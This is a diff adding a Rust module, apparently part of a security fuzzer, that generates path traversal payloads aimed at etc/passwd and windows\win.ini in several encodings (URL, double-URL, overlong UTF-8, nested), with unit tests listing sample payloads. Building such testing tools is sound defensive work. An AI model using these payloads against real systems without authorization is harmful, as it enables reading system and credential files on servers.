@@ -0,0 +1,89 @@
+use crate::error::Error::GenericError;
+use crate::error::Result;
+use crate::payloads::{FuzzTraversalEncoding, FuzzTraversalOs};
+
+/// Files every install has, with contents the path traversal verdict
+/// recognizes
+const UNIX_FILE: &str = "etc/passwd";
+const WINDOWS_FILE: &str = "windows\\win.ini";
+
+const ENCODINGS: &[FuzzTraversalEncoding] = &[
+    FuzzTraversalEncoding::Plain,
+    FuzzTraversalEncoding::Url,
+    FuzzTraversalEncoding::DoubleUrl,
+    FuzzTraversalEncoding::Overlong,
+    FuzzTraversalEncoding::Nested,
+];
+
+/// Paths climbing one to `depth` directories to a well-known file of `os`,
+/// with each of `encodings`, or all of them when it's empty, after the
+/// file's absolute path
+pub(super) fn traversal_payloads(
+    os: FuzzTraversalOs,
+    depth: usize,
+    encodings: &[FuzzTraversalEncoding],
+) -> Result<Vec<String>> {
+    if depth == 0 {
+        return Err(GenericError("Traverse at least one directory".to_string()));
+    }
+    let encodings = if encodings.is_empty() { ENCODINGS } else { encodings };
+    let files = match os {
+        FuzzTraversalOs::Unix => vec![(UNIX_FILE, '/')],
+        FuzzTraversalOs::Windows => vec![(WINDOWS_FILE, '\\')],
+        FuzzTraversalOs::Any => vec![(UNIX_FILE, '/'), (WINDOWS_FILE, '\\')],
+    };
+
+    let mut payloads = Vec::new();
+    for (file, separator) in files {
+        payloads.push(match separator {
+            '/' => format!("/{file}"),
+            _ => format!("c:\\{file}"),
+        });
+        for encoding in encodings {
+            let step = step(*encoding, separator);
+            payloads.extend((1..=depth).map(|d| format!("{}{file}", step.repeat(d))));
+        }
+    }
+    Ok(payloads)
+}
+
+/// One directory up, followed by `separator`
+fn step(encoding: FuzzTraversalEncoding, separator: char) -> &'static str {
+    let unix = separator == '/';
+    match encoding {
+        FuzzTraversalEncoding::Plain if unix => "../",
+        FuzzTraversalEncoding::Plain => "..\\",
+        FuzzTraversalEncoding::Url if unix => "..%2f",
+        FuzzTraversalEncoding::Url => "..%5c",
+        FuzzTraversalEncoding::DoubleUrl if unix => "..%252f",
+        FuzzTraversalEncoding::DoubleUrl => "..%255c",
+        FuzzTraversalEncoding::Overlong if unix => "..%c0%af",
+        FuzzTraversalEncoding::Overlong => "..%c1%9c",
+        FuzzTraversalEncoding::Nested if unix => "....//",
+        FuzzTraversalEncoding::Nested => "....\\\\",
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn climbs_to_well_known_files() {
+        let overlong = [FuzzTraversalEncoding::Overlong];
+        let payloads = traversal_payloads(FuzzTraversalOs::Unix, 2, &overlong).unwrap();
+        assert_eq!(
+            payloads,
+            vec![
+                "/etc/passwd",
+                "..%c0%afetc/passwd",
+                "..%c0%af..%c0%afetc/passwd"
+            ]
+        );
+
+        let payloads = traversal_payloads(FuzzTraversalOs::Any, 3, &[]).unwrap();
+        assert_eq!(payloads.len(), 2 * (1 + 3 * ENCODINGS.len()));
+        assert!(payloads.contains(&"..\\..\\windows\\win.ini".to_string()));
+        assert!(traversal_payloads(FuzzTraversalOs::Unix, 0, &[]).is_err());
+    }
+}